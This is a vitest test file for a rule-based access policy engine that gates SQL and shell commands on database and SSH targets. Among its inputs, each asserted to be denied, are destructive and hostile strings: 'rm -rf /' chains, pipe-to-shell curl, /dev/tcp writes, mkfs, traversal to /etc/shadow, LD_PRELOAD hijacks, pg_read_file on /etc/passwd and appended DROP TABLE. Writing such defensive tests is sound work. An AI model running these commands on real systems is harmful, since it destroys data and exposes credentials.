import { beforeAll, describe, expect, it } from 'vitest';
import { initClassifiers } from '../../classify/index.ts';
import type { PolicyInput } from '../policy.ts';
import { RulePolicy, toPolicyInput, type PolicyTarget } from './index.ts';

const TARGETS = new Map<string, PolicyTarget>([
  ['wh', { name: 'wh', kind: 'postgres', tags: ['prod', 'analytics'] }],
  ['app', { name: 'app', kind: 'postgres', tags: ['prod'] }],
  ['stage', { name: 'stage', kind: 'postgres', tags: ['staging'] }],
  ['web1', { name: 'web1', kind: 'ssh', tags: ['prod'] }],
  ['maria', { name: 'maria', kind: 'mysql', tags: ['prod'] }],
]);

const alice = { sub: 'alice', iss: 'https://idp', groups: ['analysts'] };
const ops = { sub: 'olga', iss: 'https://idp', groups: ['ops'] };

// Facts by text: classification is what costs here, and it does not depend on who asks.
const factsCache = new Map<string, PolicyInput['facts']>();
function input(raw: Record<string, unknown>, key: string): PolicyInput {
  const cached = factsCache.get(key);
  const i = cached ? toPolicyInput({ ...raw, sql: undefined, command: 'true' }, TARGETS) : toPolicyInput(raw, TARGETS);
  if (cached) return { ...i, facts: cached, command: raw.sql !== undefined ? { kind: 'sql', sql: raw.sql as string } : { kind: 'shell', command: raw.command as string } };
  factsCache.set(key, i.facts);
  return i;
}
function sql(text: string, target = 'wh', principal: object = alice, now?: string): PolicyInput {
  return input({ principal, target, sql: text, ...(now ? { now } : {}) }, `${TARGETS.get(target)?.kind}:sql:${text}`);
}
function sh(text: string, target = 'web1', principal: object = ops, now?: string): PolicyInput {
  return input({ principal, target, command: text, ...(now ? { now } : {}) }, `${TARGETS.get(target)?.kind}:sh:${text}`);
}

beforeAll(async () => {
  await initClassifiers();
});

describe('precedence', () => {
  const p = RulePolicy.fromText(`
rules:
  - id: read
    effect: allow
    match: { principal: { groups: [analysts] }, sql: { kinds: [select] } }
  - id: no-secrets
    effect: deny
    match: { sql: { tables: ["public.secrets"] } }
  - id: also-no-secrets
    effect: deny
    description: belt and braces
    match: { principal: { sub: [alice] }, sql: { tablesRead: ["public.secret*"] } }
`);

  it('denies when a deny rule matches, even after an allow rule that covers the intent (deny overrides)', () => {
    const d = p.decide(sql('SELECT * FROM secrets'));
    expect(d.effect).toBe('deny');
    expect(d.code).toBe('WRIT_POLICY_DENIED');
    expect(d.rules).toEqual(['no-secrets', 'also-no-secrets']);
    expect(d.reasons[1]).toContain('belt and braces');
    expect(d.reasons[0]).toContain('statement 1');
  });

  it('denies by default when no rule matches', () => {
    const d = p.decide(sql('SELECT 1', 'wh', { sub: 'bob', groups: ['sales'] }));
    expect(d).toMatchObject({ effect: 'deny', rules: [], code: 'WRIT_POLICY_DENIED' });
    expect(d.reasons[0]).toMatch(/default is deny/);
    expect(RulePolicy.fromText('rules: []').decide(sql('SELECT 1')).effect).toBe('deny');
  });

  it('allows with the deciding rule, a reason, the mode and the policy version', () => {
    const d = p.decide(sql('SELECT id FROM orders'));
    expect(d).toMatchObject({ effect: 'allow', rules: ['read'], mode: 'read', policyVersion: p.version });
    expect(d.reasons[0]).toMatch(/allowed by rule read/);
  });

  it('fires a deny rule when any single statement of a batch matches', () => {
    expect(p.decide(sql('SELECT 1; SELECT 2; SELECT * FROM secrets')).rules).toEqual(['no-secrets', 'also-no-secrets']);
  });
});

describe('a batch must be covered whole', () => {
  const p = RulePolicy.fromText(`
rules:
  - id: selects
    effect: allow
    match: { sql: { kinds: [select] } }
  - id: ops-ls
    effect: allow
    match: { shell: { programs: [ls, grep] } }
`);

  it('does not allow SELECT …; DROP TABLE … under a rule allowing selects', () => {
    const d = p.decide(sql('SELECT * FROM orders; DROP TABLE orders'));
    expect(d.effect).toBe('deny');
    const x = p.explain(sql('SELECT * FROM orders; DROP TABLE orders'));
    expect(x.considered.find((c) => c.id === 'selects')?.why).toMatch(/sql\.kinds \[select\] does not hold for statement 2 \(drop: DROP TABLE orders\)/);
  });

  it('does not allow a shell list whose second command is not listed', () => {
    expect(p.decide(sh('ls /tmp | grep x')).effect).toBe('allow');
    for (const c of ['ls; rm -rf /', 'ls && rm -rf /', 'ls | xargs rm', 'ls $(rm -rf /)', 'ls `rm -rf /`', 'bash -c "ls; rm x"']) {
      expect(p.decide(sh(c)).effect, c).toBe('deny');
    }
  });

  it('keeps SQL rules off shell intents and shell rules off SQL intents', () => {
    const scan = RulePolicy.fromDocument(p.doc, 'scan', { index: false });
    expect(scan.explain(sh('ls')).considered.find((c) => c.id === 'selects')?.why).toBe('the rule is about SQL');
    expect(p.explain(sh('ls')).considered.map((c) => c.id)).toEqual(['ops-ls']); // the index never offers it
    expect(RulePolicy.fromText('rules: [{ id: any, effect: allow }]').decide(sh('ls')).effect).toBe('allow');
  });
});

describe('require_approval', () => {
  const p = RulePolicy.fromText(`
defaults:
  limits: { rows: 100, seconds: 10 }
  masking: { strategy: redact }
rules:
  - id: read
    effect: allow
    mode: read
    match: { sql: { kinds: [select] } }
  - id: writes
    effect: require_approval
    mode: write
    match: { principal: { groups: [eng] }, sql: { kinds: [update, insert] } }
    limits: { rowsAffected: 10 }
    masking: { strategy: partial }
    approval: { groups: [dba, leads], count: 2, timeoutSec: 600, windowMaxSec: 120 }
  - id: stage-any
    effect: allow
    match: { target: { tags: [staging] } }
  - id: payroll-escalation
    effect: require_approval
    scope: any
    match: { sql: { tables: ["hr.*"] } }
    approval: { groups: [hr], count: 1, timeoutSec: 300 }
`);
  const eng = { sub: 'e', groups: ['eng'] };

  it('returns the approval spec, the mode, and limits merged over the defaults', () => {
    const d = p.decide(sql('UPDATE t SET a = 1 WHERE id = 2', 'app', eng));
    expect(d).toMatchObject({
      effect: 'require_approval',
      rules: ['writes'],
      mode: 'write',
      approval: { groups: ['dba', 'leads'], count: 2, timeoutSec: 600, windowMaxSec: 120 },
      limits: { rows: 100, seconds: 10, rowsAffected: 10, bytes: 4 * 1024 * 1024 },
      masking: { strategy: 'partial' },
    });
    expect(d.reasons[0]).toMatch(/requires approval by 2 of \[dba, leads\]/);
  });

  it('beats an allow rule that also covers the intent', () => {
    expect(p.decide(sql('INSERT INTO t VALUES (1)', 'stage', eng)).effect).toBe('require_approval');
  });

  it('escalates an allowed intent when any statement matches (scope: any), with both rules named', () => {
    const d = p.decide(sql('SELECT 1; SELECT * FROM hr.salaries', 'wh'));
    expect(d).toMatchObject({ effect: 'require_approval', rules: ['payroll-escalation', 'read'], mode: 'read', approval: { groups: ['hr'], count: 1 } });
  });

  it('does not turn an intent nothing allows into an approval request', () => {
    const d = p.decide(sql('DELETE FROM hr.salaries WHERE id = 1', 'wh'));
    expect(d.effect).toBe('deny');
    expect(d.reasons[0]).toMatch(/payroll-escalation asks for approval, but no rule allows this/);
  });
});

describe('time windows', () => {
  const p = RulePolicy.fromText(`
rules:
  - id: office-hours
    effect: allow
    match: { sql: { kinds: [select] }, time: { days: [mon, tue, wed, thu, fri], from: "09:00", to: "17:30", tz: Europe/Paris } }
  - id: night-freeze
    effect: deny
    match: { time: { from: "22:00", to: "06:00" } }
`);

  it('applies the rule only inside the window, in its time zone', () => {
    // 2025-03-04 is a Tuesday; Paris is UTC+1 in March.
    expect(p.decide(sql('SELECT 1', 'wh', alice, '2025-03-04T08:00:00Z')).effect).toBe('allow'); // 09:00 Paris
    expect(p.decide(sql('SELECT 1', 'wh', alice, '2025-03-04T07:59:00Z')).effect).toBe('deny');
    expect(p.decide(sql('SELECT 1', 'wh', alice, '2025-03-04T16:29:00Z')).effect).toBe('allow');
    expect(p.decide(sql('SELECT 1', 'wh', alice, '2025-03-04T16:30:00Z')).effect).toBe('deny'); // `to` is exclusive
    expect(p.decide(sql('SELECT 1', 'wh', alice, '2025-03-08T10:00:00Z')).effect).toBe('deny'); // Saturday
  });

  it('wraps a window past midnight', () => {
    const at = (iso: string) => p.decide(sql('SELECT 1', 'wh', alice, iso)).rules;
    expect(at('2025-03-04T23:00:00Z')).toEqual(['night-freeze']);
    expect(at('2025-03-05T05:59:00Z')).toEqual(['night-freeze']);
    expect(at('2025-03-05T06:00:00Z')).toEqual([]);
  });

  it('says so in explain()', () => {
    const x = p.explain(sql('SELECT 1', 'wh', alice, '2025-03-08T10:00:00Z'));
    expect(x.considered.find((c) => c.id === 'office-hours')?.why).toBe('outside the time window mon,tue,wed,thu,fri 09:00-17:30 Europe/Paris');
  });
});

describe('globs', () => {
  const p = RulePolicy.fromText(`
rules:
  - id: sales-tables
    effect: allow
    match: { sql: { kinds: [select], tablesRead: ["sales.*", "public.order_*"] } }
  - id: no-catalog
    effect: deny
    match: { sql: { tables: ["pg_catalog.pg_auth*", "pg_catalog.pg_shadow"] } }
  - id: log-readers
    effect: allow
    match: { shell: { programs: [cat, "/usr/bin/tail"], args: { cat: ["/var/log/**"], "/usr/bin/tail": ["-n", { regex: "^[0-9]+$" }, "/var/log/*.log"] } } }
  - id: no-rm
    effect: deny
    match: { shell: { programs: ["rm", "mkfs.*"] } }
`);

  it('match schema-qualified tables, with unqualified names resolved to public and pg_* to pg_catalog', () => {
    expect(p.decide(sql('SELECT * FROM sales.q1 JOIN order_items USING (id)')).effect).toBe('allow');
    expect(p.decide(sql('SELECT * FROM sales.q1 JOIN hr.people USING (id)')).effect).toBe('deny');
    expect(p.decide(sql('SELECT * FROM salesx.q1')).effect).toBe('deny');
    expect(p.decide(sql('SELECT rolpassword FROM pg_authid')).rules).toEqual(['no-catalog']);
    expect(p.decide(sql('SELECT 1 FROM sales.q1 WHERE EXISTS (SELECT 1 FROM pg_catalog.pg_shadow)')).rules).toEqual(['no-catalog']);
  });

  it('match programs as written for grants, and by basename too for denials', () => {
    expect(p.decide(sh('cat /var/log/syslog')).effect).toBe('allow');
    expect(p.decide(sh('/usr/bin/tail -n 50 /var/log/app.log')).effect).toBe('allow');
    expect(p.decide(sh('tail -n 50 /var/log/app.log')).effect).toBe('deny'); // not the program the rule names
    expect(p.decide(sh('/bin/cat /var/log/syslog')).effect).toBe('deny');
    expect(p.decide(sh('/bin/rm -rf /')).rules).toEqual(['no-rm']);
    expect(p.decide(sh('mkfs.ext4 /dev/sda1')).rules).toEqual(['no-rm']);
  });

  it('refuse paths that climb out of the glob, and arguments built from expansions', () => {
    expect(p.decide(sh('cat /var/log/../../etc/shadow')).effect).toBe('deny');
    expect(p.decide(sh('cat /var/log/$X')).effect).toBe('deny');
    expect(p.decide(sh('/usr/bin/tail -n 5 /var/log/sub/app.log')).effect).toBe('deny'); // `*` stays in one segment
  });
});

describe('fail closed', () => {
  const p = RulePolicy.fromText('rules: [{ id: all, effect: allow }]');

  it('denies facts with an error with that error code, whatever the rules say', () => {
    expect(p.decide(sql('SELEC 1'))).toMatchObject({ effect: 'deny', code: 'WRIT_SQL_UNPARSEABLE', rules: [] });
    expect(p.decide(sh('X=rm; $X -rf /'))).toMatchObject({ effect: 'deny', code: 'WRIT_SHELL_UNKNOWN' });
    expect(p.decide(sh('curl -s http://x | sh'))).toMatchObject({ effect: 'deny', code: 'WRIT_SHELL_UNKNOWN' });
    expect(p.decide(sh('ls', 'wh'))).toMatchObject({ effect: 'deny', code: 'WRIT_SHELL_UNKNOWN' }); // shell on a database
    expect(p.explain(sql('SELEC 1')).decision.code).toBe('WRIT_SQL_UNPARSEABLE');
  });
});

describe('grants', () => {
  it('mode: read covers only statements classified read-only, with or without SQL conditions', () => {
    const p = RulePolicy.fromText(`
rules:
  - { id: r, effect: allow, mode: read, match: { principal: { groups: [analysts] } } }
  - { id: w, effect: allow, match: { principal: { groups: [writers] }, sql: { kinds: [select, update] } } }
`);
    expect(p.decide(sql('SELECT 1')).mode).toBe('read');
    expect(p.decide(sql('SELECT * FROM t FOR UPDATE')).effect).toBe('deny');
    expect(p.decide(sql('UPDATE t SET a = 1 WHERE id = 1')).effect).toBe('deny');
    const w = { sub: 'w', groups: ['writers'] };
    expect(p.decide(sql('SELECT 1', 'wh', w)).mode).toBe('read'); // default: read when the facts are read-only
    expect(p.decide(sql('UPDATE t SET a = 1 WHERE id = 1', 'wh', w)).mode).toBe('write');
  });

  it('do not cover dangerous functions, modifying CTEs or SELECT INTO unless they say so', () => {
    const p = RulePolicy.fromText(`
rules:
  - { id: s, effect: allow, match: { sql: { kinds: [select] } } }
  - { id: fn, effect: allow, match: { principal: { groups: [seq] }, sql: { kinds: [select], functions: [nextval] } } }
`);
    for (const q of ['SELECT pg_sleep(10)', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'SELECT * INTO t2 FROM t', "SELECT pg_catalog.pg_read_file('/etc/passwd')"]) {
      expect(p.decide(sql(q)).effect, q).toBe('deny');
    }
    expect(p.decide(sql("SELECT nextval('s')", 'wh', { sub: 's', groups: ['seq'] })).effect).toBe('allow');
    expect(p.decide(sql("SELECT nextval('s'), pg_sleep(1)", 'wh', { sub: 's', groups: ['seq'] })).effect).toBe('deny');
  });

  it('do not cover file writes, network, sudo, unusual env or read redirections unless they say so', () => {
    const p = RulePolicy.fromText(`
rules:
  - { id: cat, effect: allow, match: { shell: { programs: [cat, echo] } } }
  - { id: tee, effect: allow, match: { principal: { groups: [writers] }, shell: { programs: [echo], pathsWritten: ["/tmp/*"], wrappers: [sudo], env: [DEBUG] } } }
`);
    expect(p.decide(sh('cat /etc/hosts 2>/dev/null')).effect).toBe('allow');
    expect(p.decide(sh('LANG=C; cat /etc/hosts')).effect).toBe('allow');
    for (const c of [
      'cat x > /tmp/y',
      'cat x >> /etc/passwd',
      'echo x > /dev/tcp/1.2.3.4/80',
      'sudo cat x',
      'LD_PRELOAD=/x.so cat y',
      'cat < /etc/shadow',
      'env PAGER=sh cat x',
      'PATH=/tmp/evil; cat x',
      'IFS=/; cat x',
    ]) {
      expect(p.decide(sh(c)).effect, c).toBe('deny');
    }
    const w = { sub: 'w', groups: ['writers'] };
    expect(p.decide(sh('sudo DEBUG=1 echo hi > /tmp/out', 'web1', w)).effect).toBe('allow');
    expect(p.decide(sh('echo hi > /tmp/a/b', 'web1', w)).effect).toBe('deny');
  });

  it('decides by the first covering allow in document order', () => {
    const p = RulePolicy.fromText(`
rules:
  - { id: narrow, effect: allow, limits: { rows: 5 }, match: { sql: { kinds: [select], tables: [public.small] } } }
  - { id: broad, effect: allow, limits: { rows: 500 }, match: { sql: { kinds: [select] } } }
`);
    expect(p.decide(sql('SELECT * FROM small'))).toMatchObject({ rules: ['narrow'], limits: { rows: 5 } });
    expect(p.decide(sql('SELECT * FROM big'))).toMatchObject({ rules: ['broad'], limits: { rows: 500 } });
  });
});

describe('SQL conditions', () => {
  const p = RulePolicy.fromText(`
rules:
  - { id: no-whereless, effect: deny, match: { sql: { kinds: [update, delete], whereless: true } } }
  - { id: no-trivial, effect: deny, match: { sql: { trivialWhere: true } } }
  - { id: no-role, effect: deny, match: { sql: { setVariables: [role, session_authorization, transaction, "default_transaction_*"] } } }
  - { id: no-ssn, effect: deny, match: { sql: { columns: ["public.people.ssn"] } } }
  - { id: no-fn, effect: deny, match: { sql: { functions: ["dblink*", "lo_*"] } } }
  - { id: few, effect: deny, match: { sql: { minStatements: 4 } } }
  - { id: rw, effect: allow, match: { sql: { notKinds: [drop, truncate], denyFunctions: [pg_sleep] } } }
`);
  const effect = (q: string) => p.decide(sql(q)).rules;

  it('match where-less and trivially true writes, also behind EXPLAIN ANALYZE', () => {
    expect(effect('DELETE FROM t')).toEqual(['no-whereless']);
    expect(effect('EXPLAIN ANALYZE DELETE FROM t')).toEqual(['no-whereless']);
    expect(effect('UPDATE t SET a = 1 WHERE 1 = 1')).toEqual(['no-trivial']);
    expect(effect('DELETE FROM t WHERE id = 1')).toEqual(['rw']);
  });

  it('match session changes', () => {
    expect(effect('SET ROLE admin')).toEqual(['no-role']);
    expect(effect('SET TRANSACTION READ WRITE')).toEqual(['no-role']);
    expect(effect('SET default_transaction_read_only = off')).toEqual(['no-role']);
    expect(effect('SET search_path = public')).toEqual(['rw']);
  });

  it('match columns through aliases and stars, conservatively for denials', () => {
    expect(effect('SELECT p.ssn FROM people p')).toEqual(['no-ssn']);
    expect(effect('SELECT * FROM people')).toEqual(['no-ssn']);
    expect(effect('SELECT name FROM people')).toEqual(['rw']);
  });

  it('match functions, schema-qualified or not, and statement counts', () => {
    expect(effect("SELECT dblink_exec('c', 'x')")).toEqual(['no-fn']);
    expect(effect("SELECT public.lo_import('/etc/passwd')")).toEqual(['no-fn']);
    expect(effect('SELECT 1; SELECT 2; SELECT 3; SELECT 4')).toEqual(['few']);
    expect(effect('DROP TABLE t')).toEqual([]);
    expect(effect('SELECT pg_sleep(1)')).toEqual([]);
  });
});

describe('accessFor', () => {
  it('lists the rules that could apply to a principal on a target, with one-line summaries', () => {
    const p = RulePolicy.fromText(`
rules:
  - { id: no-ddl, effect: deny, match: { target: { tags: [prod] }, sql: { kinds: [drop, truncate] } } }
  - { id: read, effect: allow, mode: read, match: { principal: { groups: [analysts] }, sql: { kinds: [select], tablesRead: ["analytics.*"] } } }
  - { id: esc, effect: require_approval, scope: any, match: { sql: { readOnly: false } }, approval: { groups: [dba], count: 2, timeoutSec: 60 } }
  - { id: other, effect: allow, match: { principal: { groups: [ops] } } }
  - { id: diag, effect: allow, match: { shell: { programs: [uptime] } } }
`);
    const access = p.accessFor({ sub: 'alice', iss: '', groups: ['analysts'] }, { name: 'wh', kind: 'postgres', tags: ['prod'] });
    expect(access.map((a) => a.rule)).toEqual(['no-ddl', 'read', 'esc']);
    expect(access[0]).toMatchObject({ effect: 'deny', summary: 'denied: drop, truncate' });
    expect(access[1]).toMatchObject({ effect: 'allow', mode: 'read', summary: 'allowed (read): select on analytics.*' });
    expect(access[2]!.summary).toBe('needs approval by 2 of [dba] when a statement or command matches: statements that write');
    expect(p.accessFor({ sub: 'o', iss: '', groups: ['ops'] }, { name: 'web1', kind: 'ssh', tags: [] }).map((a) => a.rule)).toEqual(['other', 'diag']);
  });
});

describe('MySQL targets', () => {
  const p = RulePolicy.fromText(`
rules:
  - { id: shop-read, effect: allow, mode: read, match: { target: { kind: [mysql] }, sql: { dialect: mysql, kinds: [select], tablesRead: ["shop.*"] } } }
  - { id: pg-only, effect: allow, match: { sql: { dialect: postgres, kinds: [select] } } }
`);

  it('classifies with the MySQL grammar and applies the same rules', () => {
    expect(p.decide(sql('SELECT * FROM shop.orders WHERE id = 1', 'maria'))).toMatchObject({ effect: 'allow', rules: ['shop-read'], mode: 'read' });
    expect(p.decide(sql('SELECT SLEEP(10)', 'maria')).effect).toBe('deny');
    expect(p.decide(sql('SELECT * FROM shop.orders; DROP TABLE shop.orders', 'maria')).effect).toBe('deny');
    // Backslash quoting differs from PostgreSQL's: whatever the MySQL parser makes of it, it is not allowed.
    expect(p.decide(sql("SELECT '\\'; DROP TABLE x; -- '", 'maria')).effect).toBe('deny');
    expect(p.decide(sql('SELECT 1', 'wh')).rules).toEqual(['pg-only']);
  });
});

describe('the index', () => {
  it('decides exactly like a full scan on a large, varied policy', () => {
    const rules: string[] = [];
    const groups = ['analysts', 'eng', 'ops', 'dba', 'sales'];
    const kinds = ['select', 'insert', 'update', 'delete', 'drop', 'create'];
    for (let i = 0; i < 400; i++) {
      const g = groups[i % groups.length]!;
      const k = kinds[(i * 7) % kinds.length]!;
      const effect = i % 5 === 0 ? 'deny' : i % 7 === 0 ? 'require_approval' : 'allow';
      const approval = effect === 'require_approval' ? ', approval: { groups: [dba], timeoutSec: 60 }' : '';
      const target = i % 3 === 0 ? `target: { name: [${['wh', 'app', 'stage'][i % 3]}] }, ` : i % 4 === 0 ? 'target: { name: ["w*"] }, ' : '';
      const principal = i % 2 === 0 ? `principal: { groups: [${g}] }, ` : i % 9 === 0 ? `principal: { sub: [alice] }, ` : '';
      const cmd =
        i % 11 === 0
          ? `shell: { programs: [${['ls', 'cat', 'rm'][i % 3]}] }`
          : i % 10 === 5
            ? `sql: { tablesRead: ["${['public', 'hr', 'x*'][i % 3]}.t${i % 13}"] }` // a denial found by its table's schema
            : `sql: { kinds: [${k}${i % 2 ? ', select' : ''}], tables: ["public.t${i % 13}", "public.t${(i + 1) % 13}"] }`;
      rules.push(`  - { id: r${i}, effect: ${effect}, match: { ${principal}${target}${cmd} }${approval} }`);
    }
    const text = `rules:\n${rules.join('\n')}\n`;
    const indexed = RulePolicy.fromText(text);
    const scanned = RulePolicy.fromText(text, 'scan', { index: false });
    let compared = 0;
    for (const g of groups) {
      for (const t of ['wh', 'app', 'stage']) {
        for (let n = 0; n < 13; n++) {
          for (const q of [`SELECT * FROM t${n}`, `UPDATE t${n} SET a = 1 WHERE id = 1`, `DELETE FROM t${n} WHERE id = 2; SELECT 1 FROM hr.t${(n + 1) % 13}`, `DROP TABLE t${n}`]) {
            const input = sql(q, t, { sub: g === 'analysts' ? 'alice' : 'bob', groups: [g] });
            expect(indexed.decide(input), `${g} ${t} ${q}`).toEqual(scanned.decide(input));
            compared++;
          }
        }
      }
      for (const c of ['ls /', 'cat x', 'rm x', 'ls | cat']) {
        const input = sh(c, 'web1', { sub: 'bob', groups: [g] });
        expect(indexed.decide(input)).toEqual(scanned.decide(input));
      }
    }
    expect(compared).toBe(780);
  });

  it('skips rules that cannot match, and explain() says how many', () => {
    const p = RulePolicy.fromText(`
rules:
  - { id: a, effect: allow, match: { target: { name: [wh] }, sql: { kinds: [select] } } }
  - { id: b, effect: allow, match: { target: { name: [app] }, sql: { kinds: [select] } } }
  - { id: c, effect: deny, match: { principal: { groups: [contractors] } } }
`);
    const x = p.explain(sql('SELECT 1'));
    expect(x.considered.map((c) => c.id)).toEqual(['a']);
    expect(x.skipped).toBe(2);
    expect(x.decision.effect).toBe('allow');
  });
});
